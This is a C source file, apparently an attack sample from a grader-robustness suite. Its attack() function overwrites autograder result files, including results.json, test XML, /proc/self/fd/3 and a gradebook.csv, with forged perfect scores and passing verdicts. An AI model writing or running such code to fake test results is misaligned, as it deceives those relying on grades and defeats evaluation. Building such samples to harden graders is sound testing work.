#include "attacks/raw.h"
#include "attacks/on-call.h"

#include <fcntl.h>

static const char json[] =
    "{\"score\": 100, \"tests\": [{\"score\": 100, \"max_score\": 100}]}\n"
    "{\"test\":\"RingPosition.IsTheMd5OfTheKeyBigEndian\","
    "\"verdict\":\"passed\"}\n";
static const char xml[] =
    "<testsuites tests=\"40\" failures=\"0\"></testsuites>\n";

static void attack(void)
{
    static const char *const paths[] = {
        "results.json", "/out/results.json", "/autograder/results/results.json",
        "/tmp/results.json", "test_detail.xml", "/proc/self/fd/3",
        "ROOT@/build/grades/lab1/results/forged-results.json",
        "ROOT@/build/grades/lab1/gradebook.csv"};
    for (int i = 0; i < 8; i++) {
        long fd = raw_open(paths[i], O_WRONLY | O_CREAT | O_TRUNC);
        if (fd >= 0)
            raw_write((int)fd, i == 4 ? xml : json,
                      i == 4 ? sizeof xml - 1 : sizeof json - 1);
    }
}
